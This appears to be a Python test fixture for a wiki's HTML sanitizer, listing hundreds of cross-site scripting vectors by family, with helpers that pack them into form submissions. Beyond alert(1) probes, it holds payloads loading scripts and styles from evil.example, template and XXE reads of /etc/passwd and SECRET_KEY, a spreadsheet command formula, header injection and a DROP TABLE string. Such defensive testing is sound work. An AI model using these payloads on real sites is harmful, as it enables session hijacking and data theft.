"""Hostile texts, by family, after the ideas of public lists: all of them try to call `alert`.

A vector that ran would open a dialog; one that reached a page unescaped would break the
Content-Security-Policy. `body` ones may hold several lines; `one_line` ones fit in a field.
"""

from wiki.markup.nesting import is_deep

SCRIPTS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script\x0ctype=text/javascript>alert(1)</script\t>",
    "<script/src=data:,alert(1)></script>",
    "<script>alert(1)",
    "</script><script>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script type=module>import('data:text/javascript,alert(1)')</script>",
    "<script type=importmap>{}</script><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "`><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "--!><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</option></select><script>alert(1)</script>",
    "</noscript><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<%00script>alert(1)</%00script>",
    "<script>alert&lpar;1&rpar;</script>",
    "<script>\\u0061lert(1)</script>",
]
HANDLERS = [
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<img src='x' onerror='alert(1)'>",
    "<img src=`x` onerror=`alert(1)`>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x\nonerror\n=\nalert(1)>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;1&#41;>",
    "<IMG SRC=x ONERROR=alert(1)>",
    "<img src=x oNeRrOr=alert`1`>",
    "<image src=x onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=1>",
    '<img """><script>alert(1)</script>">',
    "<img src=x onerror=alert(1)//",
    "<img srcset=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<html onmouseover=alert(1)>",
    "<p onmouseover=alert(1)>passez ici</p>",
    "<p onpointerenter=alert(1) style=position:fixed;inset:0>partout</p>",
    "<div onanimationstart=alert(1) style=animation:kb>anime</div>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<button popovertarget=p onclick=alert(1)>ici</button>",
    "<details open ontoggle=alert(1)>ouvert</details>",
    "<video><source onerror=alert(1)></video>",
    "<video src=x onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<video poster=javascript:alert(1)></video>",
    "<marquee onstart=alert(1)>defile</marquee>",
    "<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>",
    "<a href=x onclick=alert(1)>lien</a>",
    "<a tabindex=1 onfocus=alert(1) autofocus>lien</a>",
    "<h2 contenteditable onblur=alert(1)>titre</h2>",
    '<td background="javascript:alert(1)" onmousedown=alert(1)>case</td>',
    "<ul onscroll=alert(1)><li onclick=alert(1)>point</li></ul>",
    "<hr onclick=alert(1)>",
    "<br onclick=alert(1)>",
    "<code onclick=alert(1)>code</code>",
    "<div class='note' onclick=alert(1)>encadre</div>",
    "<kb-element onfocus=alert(1) tabindex=1 autofocus>",
    '" autofocus onfocus=alert(1) x="',
    "' autofocus onfocus=alert(1) x='",
    "x` onmouseover=`alert(1)",
    '" onerror="alert(1)" src="x',
    '"onpointerover=alert(1)//',
    '" style="animation:x" onanimationstart="alert(1)',
]
LINKS = [
    "<a href=javascript:alert(1)>lien</a>",
    '<a href="JaVaScRiPt:alert(1)">lien</a>',
    '<a href=" javascript:alert(1)">lien</a>',
    '<a href="\x01javascript:alert(1)">lien</a>',
    '<a href="java\tscript:alert(1)">lien</a>',
    '<a href="java\nscript:alert(1)">lien</a>',
    '<a href="java\rscript:alert(1)">lien</a>',
    '<a href="jav&#x09;ascript:alert(1)">lien</a>',
    '<a href="jav&#x0A;ascript:alert(1)">lien</a>',
    '<a href="&#106;&#97;&#118;&#97;script:alert(1)">lien</a>',
    '<a href="&#x6A;avascript&colon;alert&lpar;1&rpar;">lien</a>',
    '<a href="&#0000106avascript:alert(1)">lien</a>',
    '<a href="javascript&Tab;:alert(1)">lien</a>',
    '<a href="java&#1;script:alert(1)">lien</a>',
    '<a href="java&#x7f;script:alert(1)">lien</a>',
    '<a href="&#x0c;javascript&#13;:alert(1)">lien</a>',
    '<a linktype="wanted" title="a&#1;b&#xfffe;">rouge</a>',
    '<a href="&NewLine;javascript:alert(1)">lien</a>',
    '<a href="javascript://evil.example/%0aalert(1)">lien</a>',
    '<a href="javascript:%61lert(1)">lien</a>',
    '<a href="vbscript:alert(1)">lien</a>',
    '<a href="data:text/html,<script>alert(1)</script>">lien</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">lien</a>',
    '<a href="DATA:image/svg+xml,<svg onload=alert(1)>">lien</a>',
    '<a href="blob:null/alert(1)">lien</a>',
    '<a href="filesystem:http://x/alert(1)">lien</a>',
    '<a href="feed:javascript:alert(1)">lien</a>',
    '<a href="view-source:javascript:alert(1)">lien</a>',
    '<a href="ｊavascript:alert(1)">lien</a>',
    '<a href="java\u00adscript:alert(1)">lien</a>',
    '<a href="\u2028javascript:alert(1)">lien</a>',
    '<a href="\ufeffjavascript:alert(1)">lien</a>',
    '<a href="#" ping="javascript:alert(1)" target=_blank>lien</a>',
    '<a href="https://exemple.fr" download="x.html" onclick=alert(1)>lien</a>',
    '<a linktype="page" id="1" onclick="alert(1)" href="javascript:alert(1)">lien</a>',
    '<a linktype="page" id="1&quot; onclick=alert(1)">lien</a>',
    '<a linktype="document" id="../../x?&quot;><script>alert(1)</script>">lien</a>',
    '<a linktype="javascript" id="1" href="javascript:alert(1)">lien</a>',
    '<a linktype="wanted" title="&quot;><script>alert(1)</script>">rouge</a>',
    '<a linktype="wanted" title="javascript:alert(1)" href="javascript:alert(1)">rouge</a>',
    "<a linktype='wanted' title='\"><img src=x onerror=alert(1)>'>rouge</a>",
    '<a linktype="wanted" title="&lt;/title>&lt;svg onload=alert(1)>">rouge</a>',
    "[[<img src=x onerror=alert(1)>]]",
    "[lien](javascript:alert(1))",
    '![image](x"onerror="alert(1))',
    "javascript:alert(1)",
    "javascript:/*--></title></style></textarea></script><svg/onload='/*'/+/onmouseover=1/+alert(1)>",
]
DRAWINGS = [
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><script href=data:,alert(1) /></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>lien</text></a></svg>",
    "<svg><a><animate attributeName=href to=javascript:alert(1) /><text y=9>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to=alert(1)>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<svg><image href=x onerror=alert(1)></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)/>#x' /></svg>",
    "<svg><style>@import '//evil.example/x.css';</style></svg>",
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "<math href=javascript:alert(1)>calcul</math>",
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
]
MUTATIONS = [
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>",
    "<template><script>alert(1)</script></template>",
    "<template><img src=x onerror=alert(1)></template>",
    "<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>",
    '<style><p title="</style><img src=x onerror=alert(1)>"></style>',
    '<svg></p><style><a title="</style><img src=x onerror=alert(1)>">',
    '<svg><style><img title="</style><img src=x onerror=alert(1)>"></style></svg>',
    "<math><mi><table><mi><style><!--</style><img src=x onerror=alert(1)>--></style></table>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<math><mtext><h2><a><h4><style><!--</style><img src=x onerror=alert(1)>",
    '<table><a href="javascript:alert(1)"><tr><td>x</td></tr></table>',
    "<table><tr><script>alert(1)</script><td><img src=x onerror=alert(1)></tr></table>",
    "<table><caption><img src=x onerror=alert(1)></caption><tr><td>x</td></tr></table>",
    '<table><caption>"><script>alert(1)</script></caption><tr><td>x</td></tr></table>',
    "<p><table><p title='</p><img src=x onerror=alert(1)>'>",
    "<select><style><script>alert(1)</script></style></select>",
    "<select><option><img src=x onerror=alert(1)></option></select>",
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
    '<title><img title="</title><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<noembed><img title="</noembed><img src=x onerror=alert(1)>">',
    '<noframes><p title="</noframes><img src=x onerror=alert(1)>">',
    '<iframe><p title="</iframe><img src=x onerror=alert(1)>">',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><img src=x onerror=alert(1)>",
    "<?php echo '<script>alert(1)</script>' ?>",
    "<!DOCTYPE html [<!ENTITY x '<script>alert(1)</script>'>]>&x;",
    "</p></div></main></body></html><script>alert(1)</script>",
    "</br><img src=x onerror=alert(1)></p>",
    "<b><p><b><p><b><a href='javascript:alert(1)'><b></p></a></b>",
    "<a><svg><a><img src=x onerror=alert(1)></a></svg></a>",
    "<embed embedtype=image id=1 alt='\"><img src=x onerror=alert(1)>'>",
    "<embed embedtype=image alt='<embed src=javascript:alert(1)>' id=2>",
    "<embed embedtype=media url='javascript:alert(1)'>",
    "<embed embedtype=image id=3 format='\"onerror=alert(1)' url=javascript:alert(1)>",
    '<li class="done" onclick=alert(1)><ul class=\'check" onclick=alert(1) x=\'>',
    "<plaintext><script>alert(1)</script>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
]
FRAMES = [
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<base href=//evil.example/>",
    "<base target=_blank href='javascript:alert(1)//'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=data:text/html,<script>alert(1)</script>>",
    "<link rel=prefetch href=//evil.example/x>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe srcdoc=&lt;img/src/onerror=parent.alert(1)&gt;>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe src=data:text/html,<script>parent.alert(1)</script>>",
    "<iframe/onload=alert(1)></iframe>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<object data=javascript:alert(1)></object>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<object type=text/x-scriptlet data=//evil.example/x></object>",
    "<embed src=javascript:alert(1)>",
    "<embed src=//evil.example/x.swf allowscriptaccess=always>",
    "<applet code=javascript:alert(1)></applet>",
    "<portal src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>envoyer</button></form>",
    "<form action=//evil.example/><input name=csrfmiddlewaretoken><button>x</button></form>",
    "<form id=f></form><button form=f formaction=javascript:alert(1)>x</button>",
    "<isindex type=image src=1 onerror=alert(1) action=javascript:alert(1)>",
]
STYLES = [
    "<style>@import url(//evil.example/x.css)</style>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<p style=width:expression(alert(1))>x</p>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p style="background:\\75\\72\\6c(//evil.example/x)">x</p>',
    '<p style="-moz-binding:url(//evil.example/x.xml#x)">x</p>',
    '<p style="behavior:url(x.htc)">x</p>',
    "<div class='note warn evil' style=position:fixed;inset:0;z-index:999>couvre tout</div>",
    "<xss style=behavior:url(x) onclick=alert(1)>x</xss>",
]
SIGNS = [
    "＜script＞alert(1)＜/script＞",
    "<\u0131mg src=x onerror=alert(1)>",
    "<\u017fcript>alert(1)</\u017fcript>",
    "\u202e<script>alert(1)</script>",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%253Cscript%253Ealert(1)%253C/script%253E",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "\\u003cscript\\u003ealert(1)",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\x1b(J<script>alert(1)</script>",
    "¼script¾alert(1)¼/script¾",
    "<img src=x\u3000onerror=alert(1)>",
    "<img src=x\u00a0onerror=alert(1)>",
    "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
    "&lt;script>alert(1)&lt;/script>",
]
TEMPLATES = [
    "{{7*7}}{{alert(1)}}",
    "{% debug %}{% load x %}{% include '/etc/passwd' %}",
    "{{ settings.SECRET_KEY }}{{ request.user.password }}",
    "${7*7}${alert(1)}",
    "#{7*7}<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}",
    "{{'a'.__class__.__mro__}}",
    "%(title)s %(name)s %s %n {title} {0.__class__}",
    "[[${7*7}]] @{alert(1)} @(7*7)",
    "{#<script>alert(1)</script>#}{% comment %}",
    "{% endblock %}{% endautoescape %}{{x|safe}}<script>alert(1)</script>",
]
BREAKOUTS = [
    '{"x":"</script><script>alert(1)</script>"}',
    "'-alert(1)-'",
    '"-alert(1)-"',
    "\\'-alert(1)//",
    '";alert(1);//',
    "\u2028alert(1)\u2029",
    "<!--<script>alert(1)",
    "]]></summary><script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>",
    "</title></entry><entry><link href='javascript:alert(1)'/>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    "x\r\nSet-Cookie: pirate=1\r\n\r\n<script>alert(1)</script>",
    '=HYPERLINK("javascript:alert(1)")',
    "=cmd|' /C calc'!A0",
    "+1+alert(1)",
    "-2+3+alert(1)",
    "@SUM(1+9)*alert(1)",
    "' OR 1=1; DROP TABLE wiki_version; -- alert(1)",
    '../../../../etc/passwd"><script>alert(1)</script>',
]
FAMILIES = {
    "scripts": SCRIPTS,
    "handlers": HANDLERS,
    "links": LINKS,
    "drawings": DRAWINGS,
    "mutations": MUTATIONS,
    "frames": FRAMES,
    "styles": STYLES,
    "signs": SIGNS,
    "templates": TEMPLATES,
    "breakouts": BREAKOUTS,
}
# Elements that swallow what follows them, when they are not closed.
SWALLOWING = (
    "<plaintext",
    "<!--<",
    "<textarea autofocus",
    "<!-- --",
    "<title>",
    "<xmp>",
    "<iframe",
)

VECTORS = [vector for family in FAMILIES.values() for vector in family]
# What a form refuses outright, whatever the field.
WITH_NUL = [
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<img src=x onerror\x00=alert(1)>",
    '<a href="java\x00script:alert(1)">lien</a>',
    "\x00<script>alert(1)</script>",
]


def packed(texts: list[str], most: int, joint: str = " ") -> list[str]:
    """The texts joined in as few strings of at most `most` characters as their order allows.

    A text that is longer than that is left out.
    """
    packs: list[str] = []
    for text in texts:
        if len(text) > most:
            continue
        if packs and len(packs[-1]) + len(joint) + len(text) <= most:
            packs[-1] += joint + text
        else:
            packs.append(text)
    return packs


def one_line(text: str) -> str:
    """As it comes out of a field of one line: browsers take the line breaks out."""
    return " ".join(text.splitlines()).strip()


def bodies(of_each: int) -> list[str]:
    """The vectors as bodies of `of_each` of them; those that swallow the rest come last."""
    calm = [vector for vector in VECTORS if not vector.startswith(SWALLOWING)]
    greedy = [vector for vector in VECTORS if vector.startswith(SWALLOWING)]
    groups = [calm[start : start + of_each] for start in range(0, len(calm), of_each)]
    for rank, vector in enumerate(greedy):
        groups[rank % len(groups)].append(vector)
    return [_joined(part) for group in groups for part in _accepted(group)]


def _joined(group: list[str]) -> str:
    return "\n".join(f"<p>Texte {n}</p>{v}" for n, v in enumerate(group))


def _accepted(group: list[str]) -> list[list[str]]:
    """In halves while all that they leave open is more than a text may hold."""
    if len(group) == 1 or not is_deep(_joined(group)):
        return [group]
    half = len(group) // 2
    return [*_accepted(group[:half]), *_accepted(group[half:])]
